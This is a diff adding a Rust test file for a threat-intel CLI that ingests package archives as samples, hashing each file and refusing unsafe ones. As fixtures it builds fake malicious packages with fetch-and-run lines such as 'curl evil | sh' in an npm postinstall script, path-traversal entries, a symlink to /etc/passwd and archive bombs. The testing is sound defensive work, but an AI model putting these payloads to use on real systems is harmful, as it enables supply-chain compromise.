@@ -1,0 +1,179 @@
+//! `scioc ingest sample`: real archive shapes built here, and hostile ones.
+
+use crate::support::{FEED, Scioc};
+use sha2::{Digest, Sha256};
+use std::io::Write;
+
+fn hex(b: &[u8]) -> String {
+    b.iter().map(|x| format!("{x:02x}")).collect()
+}
+
+/// A tar of `(path, content)` files; paths are written raw, so hostile ones survive.
+fn tar_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (path, content) in files {
+        let mut h = tar::Header::new_old();
+        let name = &mut h.as_old_mut().name;
+        name[..path.len()].copy_from_slice(path.as_bytes());
+        h.set_size(content.len() as u64);
+        h.set_mode(0o644);
+        h.set_entry_type(tar::EntryType::Regular);
+        h.set_cksum();
+        b.append(&h, *content).unwrap();
+    }
+    b.into_inner().unwrap()
+}
+
+fn gz(bytes: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    e.write_all(bytes).unwrap();
+    e.finish().unwrap()
+}
+
+fn zip_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (path, content) in files {
+        z.start_file(*path, zip::write::SimpleFileOptions::default()).unwrap();
+        z.write_all(content).unwrap();
+    }
+    z.finish().unwrap().into_inner()
+}
+
+fn write(s: &Scioc, name: &str, bytes: &[u8]) -> String {
+    let p = s.dir.path().join(name);
+    std::fs::write(&p, bytes).unwrap();
+    p.display().to_string()
+}
+
+fn events(s: &Scioc) -> u64 {
+    let v: serde_json::Value = serde_json::from_str(&s.ok(&["status", "--format", "json"], "")).unwrap();
+    v["events"].as_u64().unwrap()
+}
+
+#[tokio::test]
+async fn every_archive_kind_is_hashed_file_by_file() {
+    let s = Scioc::new();
+    s.add_user("alice", "reader");
+    let index_js = b"require('child_process').exec('curl evil | sh')".as_slice();
+    let npm = gz(&tar_bytes(&[
+        ("package/package.json", br#"{"name":"@evil/pkg","version":"1.2.3","repository":{"url":"git+https://github.com/e/p.git"},"scripts":{"postinstall":"node index.js"}}"#),
+        ("package/index.js", index_js),
+    ]));
+    let npm_path = write(&s, "pkg-1.2.3.tgz", &npm);
+    s.ok(
+        &[
+            "ingest",
+            "sample",
+            &npm_path,
+            "--threat-name",
+            "Script-JS.Downloader.SupplyChain",
+            "--threat-level",
+            "4",
+            "--source-url",
+            "https://registry.npmjs.org/@evil/pkg/-/pkg-1.2.3.tgz",
+        ],
+        "",
+    );
+
+    let whl = zip_bytes(&[
+        ("evil_pkg/__init__.py", b"import os"),
+        ("evil_pkg-0.1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: evil-pkg\nVersion: 0.1\n\n"),
+    ]);
+    let sdist = gz(&tar_bytes(&[
+        ("evil-0.2/PKG-INFO", b"Metadata-Version: 2.1\nName: evil\nVersion: 0.2\n"),
+        ("evil-0.2/setup.py", b"print(1)"),
+    ]));
+    let krate = gz(&tar_bytes(&[
+        ("evil-0.1.0/Cargo.toml", b"[package]\nname = \"evil\"\nversion = \"0.1.0\"\n"),
+        ("evil-0.1.0/build.rs", b"fn main(){}"),
+    ]));
+    let data = gz(&tar_bytes(&[("lib/evil.rb", b"system('id')")]));
+    let meta = gz(
+        b"--- !ruby/object:Gem::Specification\nname: evilgem\nversion: !ruby/object:Gem::Version\n  version: 1.2.3\n",
+    );
+    let gem = tar_bytes(&[("metadata.gz", &meta), ("data.tar.gz", &data)]);
+    let paths = [
+        write(&s, "evil_pkg-0.1-py3-none-any.whl", &whl),
+        write(&s, "evil-0.2.tar.gz", &sdist),
+        write(&s, "evil-0.1.0.crate", &krate),
+        write(&s, "evilgem-1.2.3.gem", &gem),
+    ];
+    let mut args = vec!["ingest", "sample"];
+    args.extend(paths.iter().map(String::as_str));
+    s.ok(&args, "");
+
+    crate::support::next_second().await;
+    let server = s.serve(&[]);
+    let page = server.client().as_user("alice").page(&format!("{FEED}/utc/2011-03-29T00:00:00?format=json")).await;
+    let e = &page.feed().entries;
+    assert_eq!(e.len(), 5);
+    let npm_entry = &e[0];
+    assert_eq!(npm_entry["identity"]["purl"], "pkg:npm/%40evil/pkg@1.2.3");
+    assert_eq!(npm_entry["identity"]["repository"], "https://github.com/e/p.git");
+    assert_eq!(npm_entry["sha256"], hex(&Sha256::digest(&npm)));
+    assert_eq!(npm_entry["sample_size"], npm.len().to_string());
+    assert_eq!(npm_entry["filename"], "pkg-1.2.3.tgz");
+    assert_eq!(npm_entry["source_url"], "https://registry.npmjs.org/@evil/pkg/-/pkg-1.2.3.tgz");
+    let samples = npm_entry["sample_list"].as_array().unwrap();
+    assert_eq!(samples.len(), 3, "the archive and each file inside");
+    assert_eq!(samples[2]["sha256"], hex(&Sha256::digest(index_js)));
+    assert_eq!(samples[2]["threat_name"], "Script-JS.Downloader.SupplyChain");
+    assert_eq!(samples[2]["threat_level"], "4");
+    assert_eq!(
+        npm_entry["scioc"]["provenance"]["files"],
+        serde_json::json!(["pkg-1.2.3.tgz", "package/package.json", "package/index.js"])
+    );
+
+    let purls: Vec<&str> = e[1..].iter().map(|x| x["identity"]["purl"].as_str().unwrap()).collect();
+    assert_eq!(purls, ["pkg:pypi/evil-pkg@0.1", "pkg:pypi/evil@0.2", "pkg:cargo/evil@0.1.0", "pkg:gem/evilgem@1.2.3"]);
+    let gem_files = &e[4]["scioc"]["provenance"]["files"];
+    assert!(gem_files.as_array().unwrap().iter().any(|f| f == "data.tar.gz/lib/evil.rb"), "{gem_files}");
+}
+
+#[test]
+fn hostile_archives_are_refused_and_nothing_is_stored() {
+    let s = Scioc::new();
+    let good = write(
+        &s,
+        "good-1.0.0.tgz",
+        &gz(&tar_bytes(&[("package/package.json", br#"{"name":"good","version":"1.0.0"}"#)])),
+    );
+    let zeros = vec![0u8; 40 * 1024 * 1024];
+    let mut symlink = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_gnu();
+    h.set_entry_type(tar::EntryType::Symlink);
+    h.set_size(0);
+    symlink.append_link(&mut h, "package/link", "../../etc/passwd").unwrap();
+    let symlink = gz(&symlink.into_inner().unwrap());
+    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("traversal-1.0.0.tgz", gz(&tar_bytes(&[("package/../../escape.js", b"x")])), "climbs out of the archive"),
+        ("absolute-1.0.0.tgz", gz(&tar_bytes(&[("/etc/cron.d/evil", b"x")])), "absolute path"),
+        ("symlink-1.0.0.tgz", symlink, "points outside the archive"),
+        ("traversal.whl", zip_bytes(&[("../evil.py", b"x")]), "climbs out of the archive"),
+        ("bomb-1.0.0.tgz", gz(&tar_bytes(&[("package/zeros", &zeros)])), "archive bomb"),
+        ("bomb.zip", zip_bytes(&[("pkg/zeros", &zeros)]), "archive bomb"),
+        ("notes.txt", b"hello".to_vec(), "expected an npm .tgz"),
+        ("garbage-1.0.0.tgz", b"not gzip".to_vec(), "not a readable tar"),
+    ];
+    for (name, bytes, needle) in &cases {
+        let path = write(&s, name, bytes);
+        let out = s.run(&["ingest", "sample", &good, &path], "");
+        assert_eq!(out.status.code(), Some(1), "{name}");
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains(needle) && err.contains(name), "{name}: {err}");
+        assert!(err.contains("nothing was imported"), "{name}: {err}");
+    }
+    let many: Vec<(String, Vec<u8>)> = (0..6).map(|i| (format!("package/f{i}"), vec![b'x'])).collect();
+    let many: Vec<(&str, &[u8])> = many.iter().map(|(p, c)| (p.as_str(), c.as_slice())).collect();
+    let path = write(&s, "many-1.0.0.tgz", &gz(&tar_bytes(&many)));
+    let out = s.run(&["ingest", "sample", "--max-files", "5", &path], "");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("more than 5 entries"));
+    assert_eq!(events(&s), 0, "nothing of a refused batch is stored");
+
+    // No manifest: the identity must be given.
+    let bare = write(&s, "bare.tgz", &gz(&tar_bytes(&[("payload.sh", b"curl x | sh")])));
+    let out = s.run(&["ingest", "sample", &bare], "");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("--purl"));
+    s.ok(&["ingest", "sample", &bare, "--purl", "pkg:npm/bare@6.6.6"], "");
+    assert_eq!(events(&s), 1);
+}
